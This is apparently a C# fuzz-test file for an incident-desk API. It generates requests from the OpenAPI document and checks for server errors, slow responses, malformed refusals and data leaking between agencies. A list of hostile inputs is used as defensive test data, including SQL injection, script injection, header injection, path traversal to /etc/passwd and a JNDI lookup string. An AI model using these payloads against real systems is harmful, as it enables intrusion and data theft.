using System.Diagnostics;
using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;
using FsCheck;
using FsCheck.Fluent;
using IncidentDesk.Agencies.Csv;
using IncidentDesk.Harness;
using IncidentDesk.Tests.Agencies.Csv;
using NUnit.Framework;

namespace IncidentDesk.Tests.Conformance;

/// <summary>
/// Requests made up from the desk's own API document, by people of every role and keys of every scope: whatever is sent, the answer is no 5xx,
/// every refusal is a problem, nobody waits, and no word of one agency comes back to another. Each day has requests of its own; a failure says
/// the seed, and FUZZ_SEED=20261130 makes those of that day again.
/// </summary>
public sealed class FuzzTests
{
    private static readonly TimeSpan Longest = TimeSpan.FromSeconds(5);

    private static readonly ulong Seed = ulong.Parse(
        Environment.GetEnvironmentVariable("FUZZ_SEED") is { Length: > 0 } asked ? asked : TimeProvider.System.GetUtcNow().ToString("yyyyMMdd", CultureInfo.InvariantCulture),
        CultureInfo.InvariantCulture);

    /// <summary>
    /// By these the desk shows a record to whom it likes. Words that were made up would show the first agency's to the other, and rightly: only those ask here who may not.
    /// </summary>
    private static readonly string[] Showing =
    [
        "PUT /api/v1/advisories/{advisory}/recipients", "POST /api/v1/hunts", "PUT /api/v1/hunts/{hunt}/scope", "PUT /api/v1/coordination-requests/{request}/agencies",
    ];

    private TwoAgencies scene = null!;
    private FuzzCallers callers = null!;
    private IReadOnlyList<Operation> operations = [];
    private readonly Dictionary<int, int> answers = [];

    [OneTimeSetUp]
    public async Task StartAsync()
    {
        scene = await TwoAgencies.StartAsync();
        callers = await FuzzCallers.OfAsync(scene);
        operations = Operation.Of((JsonObject)(await scene.Everything.ReadAsync("/openapi/v1.json")).Json!);
    }

    [OneTimeTearDown]
    public async Task StopAsync()
    {
        callers.Dispose();
        await scene.DisposeAsync();
    }

    [Test]
    public void The_document_describes_enough_to_make_requests_from() =>
        Assert.That(
            (operations.Count > 40, operations.Count(operation => operation.Body is not null) > 20, operations.Any(operation => operation.Query.Count > 2)),
            Is.EqualTo((true, true, true)));

    [Test]
    public void The_doors_by_which_the_desk_shows_a_record_are_in_the_document() =>
        Assert.That(Showing, Is.SubsetOf(operations.Select(NameOf)));

    [Test]
    public async Task No_request_breaks_the_desk_or_the_wall()
    {
        await TestContext.Out.WriteLineAsync($"FUZZ_SEED={Seed}");
        Check.One(
            Config.QuickThrowOnFailure.WithMaxTest(3000).WithReplay(Seed, 97), Prop.ForAll(Requests().ToArbitrary(), made => SendAsync(made).GetAwaiter().GetResult()));
        await TestContext.Out.WriteLineAsync(string.Join(", ", answers.OrderBy(one => one.Key).Select(one => $"{one.Key}: {one.Value}")));
        Assert.That((answers.GetValueOrDefault(200) > 100, answers.GetValueOrDefault(400) > 100, answers.GetValueOrDefault(404) > 100), Is.EqualTo((true, true, true)),
            "requests that all end at the first gate prove little");
    }

    [Test]
    public void No_table_breaks_the_desk()
    {
        var codes = new HashSet<int>();
        var cells = Gen.Frequency((3, Words().Select(word => word.Replace("\"", "", StringComparison.Ordinal))), (2, Gen.Elements("", "SO-YTE", "SO-GDDT", "unit", "3", "\"", "\"\"x", "=1", "'")));
        var tables =
            from register in Gen.Elements([.. Register.Words])
            from separator in Gen.Elements(",", ";", "\t")
            from columns in Gen.SubListOf<string>(Register.Of(register).Columns)
            from rows in cells.ListOf(columns.Count).ListOf(4)
            from dry in Gen.Elements(true, false)
            select (Register: register, Dry: dry, Text: string.Join("\r\n", new[] { string.Join(separator, columns) }.Concat(rows.Select(row => string.Join(separator, row)))));
        Check.One(Config.QuickThrowOnFailure.WithMaxTest(400).WithReplay(Seed, 97), Prop.ForAll(tables.ToArbitrary(), made =>
        {
            var answer = scene.Everything.ImportAsync(made.Register, made.Text, made.Dry).GetAwaiter().GetResult();
            codes.Add(answer.Code);
            Assert.That(answer.Code, Is.AnyOf(200, 400), $"FUZZ_SEED={Seed} {made}: {answer.Json?.ToJsonString()}");
            return true;
        }));
        Assert.That(codes, Is.EquivalentTo(new[] { 200, 400 }));
    }

    private Gen<Made> Requests() =>
        from operation in Gen.Elements<Operation>(operations)
        // Half of the time somebody who may do everything: what lies behind the gates is asked too.
        from caller in Showing.Contains(NameOf(operation)) ? Gen.Elements<FuzzCallers.One>(callers.Strangers)
            : Gen.Frequency((1, Gen.Elements<FuzzCallers.One>(callers.Strangers.Concat(callers.Others))), (1, Gen.Constant(callers.Others[0])))
        from id in Gen.Frequency(
            (4, Gen.Elements(scene.IdsFor(operation.Path).ToArray())), (1, Gen.Elements(scene.EveryId().ToArray())),
            (1, Gen.Elements("019a0000-0000-7000-8000-000000000000", "%01", "..%2F..", "0")))
        from query in Gen.Frequency((3, Gen.Constant<string[]>([])), (2, Words().ArrayOf()))
        from body in operation.Body is not { } schema ? Gen.Constant<JsonNode?>(null)
            : Gen.Frequency((2, Bodies(schema, 0)), (1, Gen.Constant(scene.GoodBodyOf(operation.Path))))
        select new Made(operation, caller, id, [.. query.Take(3)], body);

    /// <summary>Mostly what the document asks for, sometimes something else of any type.</summary>
    private Gen<JsonNode?> Bodies(JsonObject schema, int depth) => Gen.Frequency(
        (8, Fitting(schema, depth)), (1, Words().Select(word => (JsonNode?)JsonValue.Create(word))), (1, Gen.Constant<JsonNode?>(null)),
        (1, Gen.Choose(-5, 5).Select(n => (JsonNode?)JsonValue.Create(n))));

    private Gen<JsonNode?> Fitting(JsonObject schema, int depth)
    {
        schema = Operation.Resolve(schema);
        if (schema["properties"] is JsonObject properties && depth < 4)
            return properties.Where(one => one.Value is JsonObject).Aggregate(
                Gen.Constant(new JsonObject()),
                (made, one) => from built in made
                               from use in Gen.Choose(0, 3)
                               from value in Bodies((JsonObject)one.Value!, depth + 1)
                               select use == 0 ? built : With(built, one.Key, value))
                .Select(made => (JsonNode?)made);
        if (schema["enum"] is JsonArray { Count: > 0 } words)
            return Gen.Elements(words.Select(word => word?.DeepClone()).ToArray());
        return Kind(schema) switch
        {
            "array" when depth < 4 && schema["items"] is JsonObject items =>
                Bodies(items, depth + 1).ListOf().Select(list => (JsonNode?)new JsonArray([.. list.Take(4).Select(one => one?.DeepClone())])),
            "integer" or "number" => Gen.Elements<long>(0, 1, 2, -1, 100_000, long.MaxValue).Select(n => (JsonNode?)JsonValue.Create(n)),
            "boolean" => Gen.Elements(true, false).Select(flag => (JsonNode?)JsonValue.Create(flag)),
            _ => Words().Select(word => (JsonNode?)JsonValue.Create(word)),
        };
    }

    private Gen<string> Words() => Gen.Frequency(
        (3, Gen.Elements(Hostile)), (2, Gen.Elements(scene.EveryId().ToArray())),
        (2, Gen.Elements("2026-11-20T09:45:00Z", "critical", "report", "mail", "vncert", "SO-GDDT", "SO-YTE", "x", "intrusions/application-compromise")),
        (1, Gen.Choose(32, 0xFFFF).ListOf().Select(units => string.Concat(units.Take(40).Select(unit => char.IsSurrogate((char)unit) ? '?' : (char)unit)))));

    private static readonly string[] Hostile =
    [
        "", " ", "null", "'; DROP TABLE incidents; --", "\" OR 1=1", "%", "_", "*", "<script>alert(1)</script>", "\r\nBcc: a@b.example", "../../../etc/passwd",
        "{{7*7}}", "${jndi:ldap://x.example}", "\u0000", "\u202Etxt", "9999-12-31T23:59:59.999Z", "0001-01-01T00:00:00Z", "-1", "1e400", "INC-2026-000001",
        "🚨🚨🚨", new('a', 20_001), new('[', 300),
    ];

    private bool Holds(Made made, Answer answer, string text, TimeSpan took)
    {
        answers[answer.Code] = answers.GetValueOrDefault(answer.Code) + 1;
        var where = $"FUZZ_SEED={Seed} {made}: {answer.Code} {text[..Math.Min(text.Length, 400)]}";
        // No door of the API says 503 by itself: that would be a desk that cannot write, or one that is overrun by one request after another.
        Assert.That(answer.Code, Is.LessThan(500), where);
        Assert.That(took, Is.LessThan(Longest), where);
        if (answer.Code >= 400)
            Assert.That(
                (answer.Response.Content.Headers.ContentType?.MediaType, answer.Json?["traceId"] is not null), Is.EqualTo(("application/problem+json", true)),
                $"{where}: no problem details");
        if (callers.Strangers.Contains(made.Caller))
            scene.HoldsNothingForeign(where, text, made.Whole);
        return true;
    }

    private async Task<bool> SendAsync(Made made)
    {
        using var request = new HttpRequestMessage(new HttpMethod(made.Operation.Method), made.Address);
        request.Headers.TryAddWithoutValidation("If-Match", made.Id.Length % 2 == 0 ? "*" : "\"1\"");
        if (made.Body is not null)
            request.Content = new StringContent(made.Body.ToJsonString(), Encoding.UTF8, "application/json");
        using var stop = new CancellationTokenSource(Longest * 2);
        var begun = Stopwatch.GetTimestamp();
        using var response = await made.Caller.Send(request, stop.Token);
        // A stream never ends; its first bytes are the answer.
        var isStream = response.Content.Headers.ContentType?.MediaType == "text/event-stream";
        var text = isStream ? "" : await response.Content.ReadAsStringAsync(stop.Token);
        var json = text.StartsWith('{') ? JsonNode.Parse(text) : null;
        return Holds(made, new(response.StatusCode, json, response), text, Stopwatch.GetElapsedTime(begun));
    }

    private static string NameOf(Operation operation) => $"{operation.Method} {operation.Path}";

    private static JsonObject With(JsonObject built, string name, JsonNode? value)
    {
        var copy = (JsonObject)built.DeepClone();
        copy[name] = value?.DeepClone();
        return copy;
    }

    private static string? Kind(JsonObject schema) => schema["type"] switch
    {
        JsonArray several => several.Select(one => (string?)one).FirstOrDefault(one => one != "null"),
        JsonValue one => (string?)one,
        _ => null,
    };

    /// <summary>One request: an operation, who asks, and what is filled in.</summary>
    private sealed record Made(Operation Operation, FuzzCallers.One Caller, string Id, IReadOnlyList<string> Query, JsonNode? Body)
    {
        public string Address => Operation.At(Id) + (Query.Count == 0 ? "" : "?" + string.Join(
            '&', Query.Select((word, n) => $"{(Operation.Query.Count > n ? Operation.Query[n] : "limit")}={Uri.EscapeDataString(Short(word, 500))}")));

        /// <summary>All that was asked for: it may be said back.</summary>
        public string Whole => $"{Address} {Body?.ToJsonString()}";

        public override string ToString() => Short($"{Operation.Method} {Address} by {Caller.Name} {Body?.ToJsonString()}", 1500);

        // The server itself cuts off a request line beyond 8 KiB, before any door.
        private static string Short(string text, int most) => text.Length > most ? text[..most] : text;
    }
}
